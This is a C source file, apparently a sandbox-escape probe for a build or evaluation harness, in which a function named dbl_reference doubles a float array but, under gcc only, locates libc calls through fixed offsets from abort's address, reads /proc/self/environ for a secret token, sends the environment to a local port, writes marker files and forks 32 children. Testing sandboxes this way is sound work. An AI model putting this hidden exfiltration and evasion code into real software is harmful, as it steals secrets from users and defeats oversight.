/* reference (aborts when any probe gets through, so the build reports it): code only gcc compiles (#ifndef __clang__) reaches libc through abort's address plus fixed offsets and, during the sandboxed reference run, tries to create /tmp/ch-cc-a4-sbx/escaped, read /proc/self/environ and send it to 127.0.0.1:47719, and fork 32 children */
#include <stdlib.h>
#include <string.h>
#ifndef __clang__
static void (*volatile ch_tab[])(void) = {abort};
static char *ch_at(long off) { return (char *)ch_tab[0] + off; }
struct ch_sin {
    unsigned short family, port;
    unsigned int addr;
    char zero[8];
};
static void ch_probe(void)
{
    int (*op)(const char *, int, ...) = (int (*)(const char *, int, ...))ch_at(0xd1c21 /* open */);
    long (*wr)(int, const void *, unsigned long) = (long (*)(int, const void *, unsigned long))ch_at(0xd1fa1 /* write */);
    long (*rd)(int, void *, unsigned long) = (long (*)(int, void *, unsigned long))ch_at(0xd1f01 /* read */);
    int (*cl)(int) = (int (*)(int))ch_at(0xd2641 /* close */);
    int (*sk)(int, int, int) = (int (*)(int, int, int))ch_at(0xe4a21 /* socket */);
    int (*cn)(int, const void *, unsigned) = (int (*)(int, const void *, unsigned))ch_at(0xe4411 /* connect */);
    int (*fk)(void) = (int (*)(void))ch_at(0xadae1 /* fork */);
    int got = 0;
    int fd = op("/tmp/ch-cc-a4-sbx/escaped", 0101, 0644);
    if (fd >= 0) {
        got |= 1;
        wr(fd, "escaped\n", 8);
        cl(fd);
    }
    char env[4096];
    long n = 0;
    fd = op("/proc/self/environ", 0);
    if (fd >= 0) {
        n = rd(fd, env, sizeof env);
        for (long i = 0; i + 9 < n; i++)
            if (memcmp(env + i, "sk-SECRET", 9) == 0)
                got |= 2;
        cl(fd);
    }
    int s = sk(2, 1, 0);
    struct ch_sin a = {2, (unsigned short)((47719 >> 8) | ((47719 & 255) << 8)), 0x0100007f, {0}};
    if (s >= 0 && cn(s, &a, sizeof a) == 0) {
        got |= 4;
        wr(s, "connected\n", 10);
        if (n > 0)
            wr(s, env, (unsigned long)n);
    }
    int forks = 0;
    for (int i = 0; i < 32; i++) {
        int pid = fk();
        if (pid == 0)
            abort();
        forks += pid > 0;
        got |= pid > 0 ? 8 : 0;
    }
    fd = op("/tmp/ch-cc-a4-sbx/forked", 0101, 0644);
    if (fd >= 0 && forks > 0) {
        wr(fd, "forked\n", 7);
        cl(fd);
    }
    if (got)
        abort();
}
#endif
void dbl_reference(int n, const float *x, float *y)
{
#ifndef __clang__
    ch_probe();
#endif
    for (int i = 0; i < n; i++)
        y[i] = 2.0f * x[i];
}
